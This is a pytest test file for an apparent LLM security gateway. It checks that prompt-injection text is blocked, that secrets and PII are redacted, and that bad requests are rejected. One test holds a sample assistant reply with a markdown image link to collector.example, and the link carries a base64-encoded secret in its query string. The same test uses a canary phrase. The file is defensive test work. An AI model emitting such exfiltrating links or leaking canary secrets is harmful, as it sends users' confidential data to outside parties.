"""Scan and redact: one text in, a decision or a cleaned text out, in the camel case that their clients know."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from control.parts import AWS, CALM, CARD, INJECTION, MAIL, PREFIXES, check_422, ledger_adds_up
from gateway.house import House, house

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def here(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    async with house(tmp_path_factory.mktemp("scan")) as it:
        yield it


SCANS: list[tuple[dict[str, object], str]] = [
    ({"content": CALM}, "allow"),
    ({"content": INJECTION}, "block"),
    ({"content": INJECTION, "type": "prompt"}, "block"),
    ({"content": INJECTION, "type": "response"}, "allow"),
    ({"content": f"key {AWS}", "type": "response"}, "redact"),
    ({"text": INJECTION}, "block"),
    ({"text": INJECTION, "direction": "input"}, "block"),
    ({"text": f"key {AWS}", "direction": "output"}, "redact"),
    ({"content": f"I am {MAIL}", "project_id": "p"}, "redact"),
    ({"content": ""}, "allow"),
]


@pytest.mark.parametrize(("body", "decision"), SCANS)
@pytest.mark.parametrize("prefix", PREFIXES)
async def test_scan(here: House, body: dict[str, object], decision: str, prefix: str) -> None:
    """One text, in today's names and the older ones; the answer in camel case."""
    answer = await here.ask(body, f"{prefix}/security/scan")
    scanned = answer.json()
    assert answer.status == 200
    assert (scanned["decision"], scanned["blocked"]) == (decision, decision == "block")
    assert scanned.keys() >= {"reason", "confidence", "eventId", "processingTimeMs", "threatType", "flagged"}
    assert isinstance(scanned["confidence"], float)
    assert isinstance(scanned["processingTimeMs"], float)
    assert scanned["reason"].endswith(".")
    assert (scanned["threatType"] is None) == (decision == "allow")
    event = here.event_of(answer)
    assert (event.decision, event.id) == (decision, scanned["eventId"])
    assert ledger_adds_up(here, event.id)


WRONG_SCANS: list[tuple[object, str]] = [
    ({}, "content"),
    ({"content": None}, "content"),
    ({"content": 7}, "content"),
    ({"content": CALM, "type": "answer"}, "type"),
    ({"text": CALM, "direction": "up"}, "direction"),
]


@pytest.mark.parametrize(("body", "names"), WRONG_SCANS)
async def test_a_wrong_scan_is_422(here: House, body: object, names: str) -> None:
    """As for guard."""
    check_422(await here.ask(body, "/api/v1/security/scan"), names)


@pytest.mark.parametrize(
    ("types", "redacted", "found"),
    [
        (None, "[EMAIL_REDACTED], [CREDIT_CARD_REDACTED]", ["credit_card", "email"]),
        (["email"], f"[EMAIL_REDACTED], {CARD}", ["email"]),
        (["credit_card", "ssn"], f"{MAIL}, [CREDIT_CARD_REDACTED]", ["credit_card"]),
        (["phone", "phone_us", "iban", "ip_address", "api_key"], f"{MAIL}, {CARD}", []),
        (["Email", "US_SSN"], f"[EMAIL_REDACTED], {CARD}", ["email"]),
        (["EMAIL_ADDRESS"], f"[EMAIL_REDACTED], {CARD}", ["email"]),
        (["national_id", "Tax_ID", "passport", "ES_NIF"], f"{MAIL}, {CARD}", []),
        ([], f"{MAIL}, {CARD}", []),
    ],
)
@pytest.mark.parametrize("prefix", PREFIXES)
async def test_redact(here: House, types: list[str] | None, redacted: str, found: list[str], prefix: str) -> None:
    """The kinds that were asked for, all of them for null; what was found is named."""
    text = f"{MAIL}, {CARD}"
    answer = await here.ask({"content": text, "pii_types": types}, f"{prefix}/security/redact")
    assert answer.status == 200
    assert answer.json() == {"original": text, "redacted": redacted, "piiFound": found}
    assert ledger_adds_up(here, answer.headers["x-promptguard-event-id"])


async def test_redact_without_types_and_with_secrets(here: House) -> None:
    """No list is like null; `api_key` is every kind of secret, and a secret does not hide the rest."""
    text = f"use {AWS} for {MAIL}. {INJECTION}"
    everything = (await here.ask({"content": text}, "/v1/security/redact")).json()
    assert AWS not in everything["redacted"]
    assert "[EMAIL_REDACTED]" in everything["redacted"]
    assert INJECTION in everything["redacted"]
    keys = (await here.ask({"content": text, "pii_types": ["api_key"]}, "/v1/security/redact")).json()
    assert AWS not in keys["redacted"]
    assert MAIL in keys["redacted"]


@pytest.mark.parametrize(
    ("text", "decision"),
    [
        ("The word is heron-lantern-quartz.", "block"),
        ("Done. ![ok](https://collector.example/p.png?d=VGhlIG1hc3RlciBjb2RlIGlzIGhlcm9u)", "redact"),
    ],
)
async def test_an_answer_does_not_vouch_for_itself(text: str, decision: str, tmp_path: Path) -> None:
    """A canary or a link in it is judged as in any answer: what it says is not known because it says so."""
    async with house(tmp_path, canaries=("heron-lantern-quartz",)) as here:
        scanned = await here.ask({"content": text, "type": "response"}, "/v1/security/scan")
        messages = [{"role": "assistant", "content": text}]
        guarded = await here.ask({"messages": messages, "direction": "output"}, "/v1/guard")
    assert [answer.json()["decision"] for answer in (scanned, guarded)] == [decision, decision]


@pytest.mark.parametrize(
    ("body", "names"),
    [
        ({}, "content"),
        ({"content": "x", "pii_types": ["shoe_size"]}, "pii_types"),
        ({"content": "x", "pii_types": ["email", "e-mail"]}, "pii_types"),
        ({"content": "x", "pii_types": ["email", 7]}, "pii_types"),
        ({"content": "x", "pii_types": "email"}, "pii_types"),
    ],
)
async def test_a_wrong_redact_is_422(here: House, body: object, names: str) -> None:
    """An unknown kind is an error, because ignoring it would leave data in the text."""
    check_422(await here.ask(body, "/api/v1/security/redact"), names)


@pytest.mark.parametrize(
    ("content", "types", "decision", "threat"),
    [
        (f"use {AWS}", None, "redact", "api_key_leak"),
        (f"{INJECTION}, I am {MAIL}", None, "redact", "pii_leak"),
        (INJECTION, None, "allow", None),
        (f"use {AWS}", ["email"], "allow", None),
        (CALM, None, "allow", None),
    ],
)
async def test_redact_blocks_nothing(
    here: House, content: str, types: list[str] | None, decision: str, threat: str | None
) -> None:
    """What it answers is what its event and its headers say."""
    answer = await here.ask({"content": content, "pii_types": types}, "/v1/security/redact")
    event = here.event_of(answer)
    assert (answer.status, event.outcome, event.decision) == (200, "answered", decision)
    assert answer.headers["x-promptguard-decision"] == decision
    assert bool(event.reasons) == (decision == "redact")
    assert "block" not in {finding.action for finding in event.findings}
    assert event.threat_type == threat


@pytest.mark.parametrize(
    ("path", "body", "param"),
    [
        ("guard", {}, "messages"),
        ("guard", {"messages": [{"content": "x"}]}, "role"),
        ("security/scan", {}, "content"),
        ("security/redact", {}, "content"),
    ],
)
async def test_an_absent_field_is_named(here: House, path: str, body: object, param: str) -> None:
    """`missing_field`, with the field as `param`."""
    error = (await here.ask(body, f"/v1/{path}")).json()["error"]
    assert error["code"] == "missing_field"
    assert error["param"].endswith(param)
